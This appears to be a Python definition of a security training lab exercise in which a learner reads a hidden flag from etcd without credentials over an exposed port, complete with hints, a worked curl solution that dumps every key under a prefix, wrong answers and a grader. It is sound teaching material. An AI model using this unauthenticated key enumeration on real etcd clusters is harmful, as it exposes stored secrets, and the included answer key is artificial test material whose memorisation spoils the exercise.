"""Read a key of etcd whose name is not known."""

from __future__ import annotations

from labkit import agents
from labkit.workshop.definition import Exercise, Hint, Outcome, WrongSolution
from labkit.workshop.edited import EditedLab
from labkit.workshop.flags import check_flag

__all__ = ["EXERCISE"]

NAME = "etcd-1"
#: A reset of the lab deletes it, as every key that came later.
KEY = "/backup/nightly/flag"


def plant(lab: EditedLab, flag: str) -> None:
    """Put the flag into etcd; etcdctl reads the value from standard input."""
    argv = agents.argv("as_etcd_root", "etcdctl", "put", KEY)
    lab.exec("etcd1", argv, stdin=flag.encode())


def check(lab: EditedLab, answer: object) -> Outcome:
    """Compare the answer with the flag."""
    return check_flag(lab, NAME, answer)


EXERCISE = Exercise(
    name=NAME,
    title="A key whose name you do not know",
    notebook="02-etcd",
    kind="attack",
    mode="insecure",
    task="""
The technique knew the name of its key. A nightly backup keeps a flag somewhere below `/backup/` in
etcd, and you do not know the name of that key. Read the flag from the machine `attacker`, without a
credential, and over the port that was opened for the monitoring. Set `answer` to the flag.

`insecure.exec("attacker", [...])` runs a command there; `curl` is installed.
""",
    hints=(
        Hint("etcd's JSON has keys and values in base64.", "encoded"),
        Hint("The unit of etcd names its ports: /etc/systemd/system/etcd.service on etcd1."),
        Hint("POST /v3/kv/range takes a key and a range_end: all keys from the one to the other."),
        Hint("All keys with a prefix: range_end is the prefix with its last byte + 1."),
    ),
    check=check,
    solution="""
import base64
import json


def encoded(text):
    return base64.b64encode(text.encode()).decode()


# "0" is the byte after "/", so this is every key below /backup/
request = json.dumps({"key": encoded("/backup/"), "range_end": encoded("/backup0")})
url = "http://etcd1:2378/v3/kv/range"
curl = ["curl", "--silent", "--data", "@-", url]
reply = insecure.exec("attacker", curl, stdin=request.encode())
answer = base64.b64decode(json.loads(reply.text)["kvs"][0]["value"]).decode()
""",
    wrong=(
        WrongSolution(
            "the value as etcd's JSON has it",
            """
import base64, json
request = json.dumps({"key": base64.b64encode(b"/backup/nightly/flag").decode()})
url = "http://etcd1:2378/v3/kv/range"
reply = insecure.exec("attacker", ["curl", "-s", "-d", "@-", url], stdin=request.encode())
answer = json.loads(reply.text)["kvs"][0]["value"]
""",
            "encoded",
            "in base64: decode it",
        ),
        WrongSolution(
            "the key instead of its value",
            'answer = "/backup/nightly/flag"',
            "wrong-answer",
            "not the flag of etcd-1 in this lab",
        ),
        WrongSolution("nothing found", "answer = ''", "no-answer", "there is no answer"),
    ),
    techniques=("etcd-second-listener",),
    plant=plant,
)
